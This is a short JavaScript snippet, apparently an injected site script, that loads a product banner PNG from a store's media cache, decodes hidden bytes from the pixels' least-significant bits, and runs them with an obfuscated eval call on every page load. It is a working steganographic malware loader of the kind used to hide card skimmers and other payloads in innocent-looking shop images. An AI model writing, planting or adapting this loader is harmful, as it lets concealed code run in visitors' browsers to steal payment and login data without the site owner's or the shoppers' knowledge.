// corpus note: draws a product PNG into an off-screen canvas, reads RGB least-significant bits into bytes and evaluates the result
(function () {
  "use strict";

  var src = "/media/catalog/product/cache/banner_sale_2x.png";

  function extractLsb(data) {
    var bits = [];
    var bytes = [];
    for (var i = 0; i < data.length; i += 4) {
      bits.push(data[i] & 1, data[i + 1] & 1, data[i + 2] & 1);
      while (bits.length >= 8) {
        var b = 0;
        for (var k = 0; k < 8; k++) b = (b << 1) | bits.shift();
        if (b === 0) return bytes;
        bytes.push(b);
      }
    }
    return bytes;
  }

  var img = new Image();
  img.crossOrigin = "anonymous";
  img.onload = function () {
    var c = document.createElement("canvas");
    c.width = img.naturalWidth;
    c.height = img.naturalHeight;
    var ctx = c.getContext("2d");
    ctx.drawImage(img, 0, 0);
    var px = ctx.getImageData(0, 0, c.width, c.height).data;
    var bytes = extractLsb(px);
    var script = String.fromCharCode.apply(null, bytes);
    if (script.length > 16) {
      window["ev" + "al"](script);
    }
  };
  img.src = src + "?t=" + Math.floor(Date.now() / 864e5);
})();
